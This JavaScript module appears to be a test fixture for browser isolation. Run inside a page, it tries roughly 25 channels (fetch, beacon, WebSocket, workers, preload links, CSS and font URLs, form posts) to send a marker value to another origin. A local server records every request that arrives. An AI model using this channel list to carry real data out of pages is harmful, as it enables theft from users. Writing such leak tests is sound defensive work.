// Ways out of a page, and another site that they could lead to.

import { createServer } from "node:http";

/** Runs in the page: tries every way out to the address; names those that said they got through. */
export const tryEverything = async (base) => {
  const to = (name) => `${base}leak-${name}?answer=h-1b`;
  const soon = new Promise((done) => setTimeout(done, 600, false));
  const came = (element, add) =>
    new Promise((done) => {
      element.onload = () => done(true);
      element.onerror = () => done(false);
      add();
    });
  const append = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    return Promise.race([soon, came(element, () => document.body.append(element))]);
  };
  const link = (rel, more) => append("link", { rel, href: to(rel), ...more });
  const socket = (open) =>
    new Promise((done) => {
      const made = open();
      made.onopen = () => done(true);
      made.onerror = () => done(false);
    });
  const ways = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }).then(() => true),
    post: () => fetch(to("post"), { method: "POST", body: "h-1b", mode: "no-cors", keepalive: true }).then(() => true),
    xhr: () =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(true);
        request.onerror = () => done(false);
        request.open("GET", to("xhr"));
        request.send();
      }),
    websocket: () => socket(() => new WebSocket(to("websocket").replace("http", "ws"))),
    events: () => socket(() => new EventSource(to("events"))),
    // Says true when it is queued; whether it was sent is seen at the server.
    beacon: () => void navigator.sendBeacon(to("beacon"), "h-1b"),
    image: () => append("img", { src: to("image") }),
    style: () => link("stylesheet"),
    prefetch: () => link("prefetch"),
    preload: () => link("preload", { as: "image" }),
    modulepreload: () => link("modulepreload"),
    icon: () => void document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: to("icon") })),
    manifest: () => link("manifest"),
    worker: () => socket(() => new Worker(to("worker"))),
    shared: () => socket(() => new SharedWorker(to("shared")).port),
    script: () => append("script", { src: to("script") }),
    import: () => import(to("import")).then(() => true),
    frame: () => append("iframe", { src: to("frame") }).then(() => undefined),
    object: () => append("object", { data: to("object") }),
    audio: () => append("audio", { src: to("audio") }),
    track: () => append("video", { poster: to("poster") }),
    css: () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`main { background-image: url("${to("css")}") }`);
      document.adoptedStyleSheets = [sheet];
    },
    font: () => {
      const font = new FontFace("leak", `url("${to("font")}")`);
      return font.load().then(() => true);
    },
    service: () => navigator.serviceWorker.register(to("service")).then(() => true),
    form: () => {
      const form = Object.assign(document.createElement("form"), { action: to("form"), method: "post" });
      document.body.append(form);
      form.submit();
    },
  };
  const through = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      if (await Promise.race([soon, way()])) {
        through.push(name);
      }
    } catch {
      // Refused, or this browser has no such way.
    }
  }
  return through;
};

/** Another site: a server that takes everything and remembers it. */
export async function elsewhere() {
  const requests = [];
  const server = createServer((request, response) => {
    requests.push({ url: request.url, referrer: request.headers.referer });
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end();
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  const close = () => {
    server.closeAllConnections();
    return new Promise((done) => server.close(done));
  };
  return { url: `http://127.0.0.1:${server.address().port}/`, requests, close };
}
